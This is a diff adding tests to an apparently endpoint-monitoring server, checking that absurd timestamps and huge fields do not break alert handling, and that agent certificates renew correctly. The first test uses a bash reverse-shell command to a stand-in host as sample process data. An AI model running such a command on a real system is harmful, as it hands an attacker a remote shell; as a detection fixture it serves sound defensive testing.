@@ -262,6 +262,48 @@ test('health is shown: sensors, losses, banners', async () => {
   agent.cut()
 })
 
+test('hostile times and lengths neither stop the pipeline nor the page', async () => {
+  const agent = await enrolled()
+  await agent.connect()
+  const attack = (sequence: number) => agent.started(sequence, `bash -i >& /dev/tcp/198.51.100.1/${sequence}`)
+  const odd = attack(2)
+  ;(odd.process as { startedAt: number }).startedAt = 1e300
+  const long = attack(3)
+  Object.assign(long.process as object, {
+    commandLine: `/dev/tcp/${'x'.repeat(65_000)}`,
+    arguments: new Array(60).fill('y'.repeat(65_000)),
+  })
+  await agent.deliver(1, [{ ...attack(1), at: 1e300 }, odd, long, { ...attack(4), at: 0 }])
+  assert.match(refusedLines(), /"code":"event.impossible-time"/)
+  const page = await alerts(`asset=${agent.enrolment.assetId}`)
+  assert.equal(page.total, 3)
+  for (const { id } of page.items) {
+    const detail = await browser.call('getAlert', { id })
+    assert.equal(detail.status, 200)
+    assert.ok(JSON.stringify(detail.body).length < 700_000)
+  }
+  agent.cut()
+})
+
+test('a certificate is renewed by the agent that has one, and the old one stays good', async () => {
+  const agent = await enrolled()
+  const url = `${shared.server.agentUrl}/renew`
+  const { key, certificateRequest } = await makeRequest('another-asset')
+  assert.equal((await post(url, { certificateRequest })).body.code, 'enrolment.no-certificate')
+  const answer = await post(
+    url,
+    { certificateRequest },
+    { cert: agent.enrolment.certificate, key: agent.enrolment.key },
+  )
+  assert.equal(answer.status, 200)
+  assert.equal(answer.body.assetId, agent.enrolment.assetId)
+  const renewed = new TestAgent({ ...agent.enrolment, certificate: String(answer.body.certificate), key })
+  await renewed.connect()
+  renewed.cut()
+  await agent.connect()
+  agent.cut()
+})
+
 test('many batches at once are stored in order, and the agent is held back, not cut off', async () => {
   const agent = await enrolled()
   await agent.connect()
